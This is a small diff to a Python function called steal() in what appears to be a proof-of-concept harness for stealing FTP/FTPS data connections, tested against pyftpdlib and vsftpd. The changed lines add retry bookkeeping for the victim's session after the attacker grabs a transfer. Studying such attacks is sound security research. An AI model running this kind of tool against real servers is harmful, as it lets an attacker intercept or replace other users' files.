@@ -170,6 +170,7 @@ def steal(args):
     else:
         del seen["received"]
     seen["stored_by_attacker"] = None
+    seen["victim_retry"] = "not tried"
     # The victim tries again with its own session: on the same login if the server kept it (pyftpdlib),
     # else on a new one (vsftpd ends a session whose data connection failed its TLS check).
     for again in ("same login", "new login"):
@@ -180,6 +181,8 @@ def steal(args):
         if args.direction == "put" and seen["stored_by_attacker"] is None:
             reply_of(lambda: victim.voidcmd("TYPE I"))   # SIZE is refused in ASCII mode
             size = reply_of(lambda: victim.size(name))
+            if size is None:   # a late reply to the refused command came first: this login is out of step
+                continue
             if isinstance(size, int) or size.startswith("550"):   # its size, or no such file
                 seen["stored_by_attacker"] = size if isinstance(size, int) else 0
             elif not size.startswith("closed"):
